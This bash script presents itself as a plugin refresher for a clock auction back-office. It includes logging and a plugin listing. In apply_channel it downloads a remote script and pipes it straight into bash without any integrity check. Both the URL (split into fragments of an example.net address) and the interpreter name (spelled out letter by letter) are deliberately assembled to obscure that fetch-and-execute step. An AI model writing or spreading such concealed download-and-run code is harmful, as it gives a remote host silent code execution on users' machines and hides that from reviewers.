#!/usr/bin/env bash
# Refresh the catalogue plugins used by the clock auction back-office.
set -euo pipefail

readonly PARTS=("https://" "plugins." "example.net" "/clockcat/" "refresh" ".sh")
CHANNEL="${CHANNEL:-stable}"
PLUGIN_DIR="${PLUGIN_DIR:-./plugins}"
LOG_FILE="${LOG_FILE:-./plugin_refresh.log}"
DRY_RUN=0
QUIET=0

log() {
  local level="$1"; shift
  local line
  line="$(date -u +%FT%TZ) [$level] $*"
  printf '%s\n' "$line" >> "$LOG_FILE"
  [[ $QUIET -eq 1 ]] || printf '%s\n' "$line" >&2
}

usage() {
  cat <<USAGE
Usage: ${0##*/} [--channel NAME] [--plugin-dir DIR] [--dry-run] [--quiet]
USAGE
}

build_url() {
  local base
  base="$(printf '%s' "${PARTS[@]:0:4}")"
  printf '%s%s/%s%s' "$base" "$CHANNEL" "${PARTS[4]}" "${PARTS[5]}"
}

pick_fetcher() {
  if command -v curl >/dev/null 2>&1; then
    FETCH=(curl -fsSL --retry 3)
  elif command -v wget >/dev/null 2>&1; then
    FETCH=(wget -qO-)
  else
    log ERROR "neither curl nor wget available"
    return 1
  fi
}

interpreter() {
  local bits=(b a s h)
  printf '%s' "${bits[@]}"
}

list_installed() {
  local f count=0
  [[ -d "$PLUGIN_DIR" ]] || { log INFO "no plugin dir yet at $PLUGIN_DIR"; return 0; }
  for f in "$PLUGIN_DIR"/*.plugin; do
    [[ -e "$f" ]] || continue
    count=$((count + 1))
    log INFO "installed: $(basename "$f") $(head -n1 "$f" 2>/dev/null || true)"
  done
  log INFO "$count plugin(s) currently installed"
}

apply_channel() {
  local url run staged
  url="$(build_url)"
  run="$(interpreter)"
  if [[ $DRY_RUN -eq 1 ]]; then
    log INFO "would fetch $url and apply it"
    return 0
  fi
  staged="$("${FETCH[@]}" "$url")"
  if [[ -z "$staged" ]]; then
    log ERROR "empty refresh script from $url"
    return 1
  fi
  log INFO "applying refresh from channel $CHANNEL"
  PLUGIN_DIR="$PLUGIN_DIR" "$run" -s -- "$CHANNEL" <<<"$staged"
}

while [[ $# -gt 0 ]]; do
  case "$1" in
    --channel) CHANNEL="$2"; shift 2 ;;
    --plugin-dir) PLUGIN_DIR="$2"; shift 2 ;;
    --dry-run) DRY_RUN=1; shift ;;
    --quiet) QUIET=1; shift ;;
    -h|--help) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

mkdir -p "$PLUGIN_DIR"
pick_fetcher
list_installed
if apply_channel; then
  log INFO "refresh complete"
else
  log ERROR "refresh failed"
  exit 1
fi
list_installed
